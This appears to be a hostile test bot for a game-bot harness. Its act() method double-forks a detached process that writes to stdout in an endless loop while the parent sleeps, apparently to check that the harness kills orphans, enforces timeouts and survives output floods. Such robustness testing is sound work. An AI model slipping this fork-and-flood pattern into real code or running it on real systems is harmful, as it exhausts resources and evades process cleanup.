"""Leaves a process behind that prints for ever, and sleeps."""

import os
import time


class Bot:
    def __init__(self, game, seat, seed):
        pass

    def act(self, turn):
        if not os.fork():
            if not os.fork():
                flood()
            os._exit(0)
        time.sleep(1000)


def flood():
    while True:
        os.write(1, b"x" * 60_000)
